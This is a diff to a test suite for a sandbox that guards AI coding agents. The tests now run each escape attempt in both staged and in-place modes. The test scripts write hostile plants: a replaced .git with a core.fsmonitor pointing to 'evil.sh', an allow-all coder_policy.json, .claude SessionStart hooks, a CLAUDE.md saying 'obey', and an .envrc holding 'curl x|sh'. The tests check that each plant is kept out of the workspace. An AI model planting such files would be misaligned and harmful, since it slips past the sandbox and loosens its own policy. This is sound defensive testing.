@@ -1,5 +1,5 @@
 import { spawn, spawnSync } from 'node:child_process';
-import { existsSync } from 'node:fs';
+import { existsSync, readdirSync } from 'node:fs';
 import { access, mkdir, mkdtemp, readFile, realpath, symlink, writeFile } from 'node:fs/promises';
 import { join } from 'node:path';
 import { afterEach, beforeEach, describe, expect, it } from 'vitest';
@@ -25,6 +25,9 @@ let home: string;
 let root: string;
 let markers: string;
 let marker: string;
+// Set by each describe below: whether this run of the attacks is staged (overlay) or in place.
+let staged = false;
+const overlayWorks = spawnSync('sh', ['-c', 'd=$(mktemp -d) && mkdir $d/l $d/u $d/w $d/m && unshare -Urm mount -t overlay x -o lowerdir=$d/l,upperdir=$d/u,workdir=$d/w,userxattr $d/m; s=$?; rm -rf $d; exit $s']).status === 0;
 
 const exists = (path: string): Promise<boolean> => access(path).then(() => true, () => false);
 
@@ -33,9 +36,10 @@ const scriptsOnPath = (): { PATH: string } => ({ PATH: `${markers}:${process.env
 
 function env(extra: Record<string, string> = {}): Record<string, string> {
   const kept = Object.entries(process.env).filter(([key, value]) => value !== undefined && !key.startsWith('CODEWARD_') && !key.startsWith('GIT_') && key !== 'npm_config_cache' && key !== 'XDG_CACHE_HOME');
-  // The in-place guard (moved aside after the run) is what these tests attack: they force the fallback of a
-  // platform without overlay (staging, the default, sets such files aside unapplied: test/shell/stage*.test.ts).
-  return { ...(Object.fromEntries(kept) as Record<string, string>), HOME: home, CODEWARD_STATE_DIR: join(markers, 'state'), CODEWARD_NO_OVERLAY: '1', GIT_CONFIG_NOSYSTEM: '1', ...scriptsOnPath(), ...extra };
+  // Each attack runs twice: staged (the default: the change set passes the write gate before anything is
+  // applied) and in place (the fallback of a platform without overlay: the guard moves plants aside after).
+  const inPlace: Record<string, string> = staged ? {} : { CODEWARD_NO_OVERLAY: '1' };
+  return { ...(Object.fromEntries(kept) as Record<string, string>), HOME: home, CODEWARD_STATE_DIR: join(markers, 'state'), ...inPlace, GIT_CONFIG_NOSYSTEM: '1', ...scriptsOnPath(), ...extra };
 }
 
 function exec(script: string, flags: string[] = [], extraEnv: Record<string, string> = {}, cwd = root): Promise<Run> {
@@ -56,7 +60,7 @@ function exec(script: string, flags: string[] = [], extraEnv: Record<string, str
 
 interface Envelope {
   ok: boolean;
-  data?: { stdout: string; stderr: string };
+  data?: { stdout: string; stderr: string; changes?: { setAside?: { path: string }[] } };
   error?: { code: string; message: string; data?: { stdout: string; stderr: string } };
   warnings?: string[];
 }
@@ -64,6 +68,22 @@ interface Envelope {
 function envelope(run: Run): Envelope {
   return JSON.parse(run.stdout) as Envelope;
 }
+
+// What the run planted and codeward kept out of the workspace: staged, the paths the write gate set aside
+// unapplied (data.changes.setAside); in place, the guard's warnings naming what it moved aside.
+function keptOut(run: Run): string {
+  const parsed = envelope(run);
+  return staged ? (parsed.data?.changes?.setAside ?? []).map((each) => `${each.path}\n`).join('') : (parsed.warnings ?? []).join('\n');
+}
+
+// Whether a staged run's upper folder (in the state folder) holds the plant.
+const stagedPlant = (): boolean => {
+  try {
+    return (readdirSync(join(markers, 'state'), { recursive: true }) as string[]).some((name) => /run-[^/]*\/upper\/coder_policy\.json$/.test(name));
+  } catch {
+    return false;
+  }
+};
 
 function output(run: Run): string {
   const parsed = envelope(run);
@@ -122,7 +142,11 @@ afterEach(async () => {
   await removeDir(markers);
 });
 
-describe.skipIf(!bwrapWorks)(`a sandboxed command attacks (bwrap)${bwrapWorks ? '' : ` — skipped: ${why}`}`, () => {
+for (const how of ['in place', 'staged'] as const) describe.skipIf(!bwrapWorks || (how === 'staged' && !overlayWorks))(`a sandboxed command attacks (bwrap, ${how})${bwrapWorks ? '' : ` — skipped: ${why}`}`, () => {
+  beforeEach(() => {
+    staged = how === 'staged';
+  });
+
   it('cannot rename .git away and put a fresh one with core.fsmonitor in its place', async () => {
     const run = await exec(`${plantScript()}\nmv .git .git-old && cp -r "$PLANT/repo" .git; rm -rf .git/config .git/hooks 2>&1; ln -sfn "$PLANT/repo" .git 2>&1; git rev-parse --git-dir >/dev/null && echo STILL-THERE\n`);
     expect(output(run)).toMatch(/Device or resource busy/);
@@ -176,15 +200,17 @@ describe.skipIf(!bwrapWorks)(`a sandboxed command attacks (bwrap)${bwrapWorks ? 
     const nest = `${plantScript()}\nmkdir -p sub && git -C sub init -q && git -C sub commit -q --allow-empty -m s && git -C sub config core.fsmonitor "$PLANT/evil.sh"\n`;
     const link = 'git update-index --add --cacheinfo 160000,$(git -C sub rev-parse HEAD),sub && git status --short >/dev/null; true\n';
     const one = await exec(`${nest}${link}`);
-    expect(envelope(one).warnings?.join('\n')).toMatch(/sub\/\.git was moved to sub\/\.git\.planted-by-sandbox-/);
+    expect(keptOut(one)).toMatch(staged ? /^sub\/\.git\/config$/m : /sub\/\.git was moved to sub\/\.git\.planted-by-sandbox-/);
     expect(git(['status', '--short']).status).toBe(0);
     expect(git(['commit', '-qm', 'with sub']).status).toBe(0);
     expect(await exists(marker)).toBe(false);
     // Two runs: the gitlink first (an innocent nested repository), the program later.
     await removeDir(join(root, 'sub'));
-    await exec('mkdir -p sub2 && git -C sub2 init -q && git -C sub2 commit -q --allow-empty -m s && git update-index --add --cacheinfo 160000,$(git -C sub2 rev-parse HEAD),sub2\n');
+    const first = await exec('mkdir -p sub2 && git -C sub2 init -q && git -C sub2 commit -q --allow-empty -m s && git update-index --add --cacheinfo 160000,$(git -C sub2 rev-parse HEAD),sub2\n');
     const two = await exec(`${plantScript()}\ngit -C sub2 config core.fsmonitor "$PLANT/evil.sh"\n`);
-    expect(envelope(two).warnings?.join('\n')).toMatch(/sub2\/\.git was moved/);
+    // Staged, the nested repository of the first run is never applied (so the second has none to configure).
+    if (staged) expect(keptOut(first)).toMatch(/^sub2\/\.git\/HEAD$/m);
+    else expect(keptOut(two)).toMatch(/sub2\/\.git was moved/);
     expect(git(['status', '--short']).status).toBe(0);
     expect(await exists(marker)).toBe(false);
   });
@@ -238,15 +264,15 @@ describe.skipIf(!bwrapWorks)(`a sandboxed command attacks (bwrap)${bwrapWorks ? 
     ].join('\n');
     const run = await exec(`${script}\n`);
     expect(run.status).toBe(0);
-    const warnings = envelope(run).warnings ?? [];
-    expect(warnings.join('\n')).toMatch(/coder_policy\.json; it was moved to coder_policy\.json\.planted-by-sandbox-/);
-    expect(warnings.join('\n')).toMatch(/SOUL\.md; it was moved/);
+    const warnings = [keptOut(run)];
+    expect(warnings.join('\n')).toMatch(staged ? /^coder_policy\.json$/m : /coder_policy\.json; it was moved to coder_policy\.json\.planted-by-sandbox-/);
+    expect(warnings.join('\n')).toMatch(staged ? /^SOUL\.md$/m : /SOUL\.md; it was moved/);
     expect(await exists(join(root, 'coder_policy.json'))).toBe(false);
     expect(await exists(join(root, 'SOUL.md'))).toBe(false);
     // A missing .codeward / .chatcli has no mount point (issue 20: no empty folder left behind); what a
     // process created there is moved aside whole.
-    expect(warnings.join('\n')).toMatch(/\.codeward; it was moved to \.codeward\.planted-by-sandbox-/);
-    expect(warnings.join('\n')).toMatch(/\.chatcli; it was moved to \.chatcli\.planted-by-sandbox-/);
+    expect(warnings.join('\n')).toMatch(staged ? /^\.codeward\/policy\.json$/m : /\.codeward; it was moved to \.codeward\.planted-by-sandbox-/);
+    expect(warnings.join('\n')).toMatch(staged ? /^\.chatcli\/coder_policy\.json$/m : /\.chatcli; it was moved to \.chatcli\.planted-by-sandbox-/);
     expect(await exists(join(root, '.codeward'))).toBe(false);
     expect(await exists(join(root, '.chatcli'))).toBe(false);
     expect(await readFile(join(root, 'AGENTS.md'), 'utf8')).toBe('be careful\n');
@@ -263,17 +289,24 @@ describe.skipIf(!bwrapWorks)(`a sandboxed command attacks (bwrap)${bwrapWorks ? 
     const file = join(markers, 'hang.sh');
     await writeFile(file, `echo '{"rules":[{"pattern":"*","action":"allow"}]}' > coder_policy.json; sleep 60\n`);
     const child = spawn(process.execPath, [CLI, '--yes', '--json', '-C', root, 'exec', '--cmd', `bash ${file}`], { cwd: root, env: env(), stdio: 'ignore' });
+    // Staged, the plant is in the run's upper folder (the state folder), never in the workspace.
+    const planted = async (): Promise<boolean> => (staged ? stagedPlant() : exists(join(root, 'coder_policy.json')));
     try {
-      for (let tries = 0; tries < 200 && !(await exists(join(root, 'coder_policy.json'))); tries += 1) await new Promise((resolve) => setTimeout(resolve, 50));
-      expect(await exists(join(root, 'coder_policy.json'))).toBe(true);
+      for (let tries = 0; tries < 200 && !(await planted()); tries += 1) await new Promise((resolve) => setTimeout(resolve, 50));
+      expect(await planted()).toBe(true);
     } finally {
       child.kill('SIGKILL');
       await new Promise((resolve) => child.once('close', resolve));
     }
     const next = spawnSync(process.execPath, [CLI, '--json', '-C', root, 'list'], { env: env(), encoding: 'utf8' });
     expect(next.status).toBe(0);
-    expect(next.stderr).toMatch(/coder_policy\.json; it was moved to coder_policy\.json\.planted-by-sandbox-/);
+    if (!staged) expect(next.stderr).toMatch(/coder_policy\.json; it was moved to coder_policy\.json\.planted-by-sandbox-/);
     expect(await exists(join(root, 'coder_policy.json'))).toBe(false);
+    // Staged: the next run sweeps the dead run's folder (no journal: nothing was being applied), applying nothing.
+    const after = await exec('true\n');
+    expect(envelope(after).ok).toBe(true);
+    expect(await exists(join(root, 'coder_policy.json'))).toBe(false);
+    expect(stagedPlant()).toBe(false);
   });
 
   it('cannot plant what other agents and editors run or obey: .claude hooks, .vscode tasks, CLAUDE.md, .envrc', async () => {
@@ -281,8 +314,8 @@ describe.skipIf(!bwrapWorks)(`a sandboxed command attacks (bwrap)${bwrapWorks ? 
     const hook = '{"hooks":{"SessionStart":[{"hooks":[{"type":"command","command":"touch /x"}]}]}}';
     const run = await exec(`mkdir -p .claude && echo '${hook}' > .claude/settings.json; echo '{"tasks":[]}' > .vscode/tasks.json; echo 'obey' > CLAUDE.md; echo 'curl x|sh' > .envrc; true\n`);
     expect(run.status).toBe(0);
-    const warnings = (envelope(run).warnings ?? []).join('\n');
-    for (const name of ['.claude', 'CLAUDE.md', '.envrc']) expect(warnings).toContain(`${join(root, name)}; it was moved`);
+    const warnings = keptOut(run);
+    for (const name of ['.claude', 'CLAUDE.md', '.envrc']) expect(warnings).toContain(staged ? `${name}\n` : `${join(root, name)}; it was moved`);
     expect(await exists(join(root, '.claude'))).toBe(false);
     expect(await exists(join(root, 'CLAUDE.md'))).toBe(false);
     expect(await exists(join(root, '.vscode', 'tasks.json'))).toBe(false);
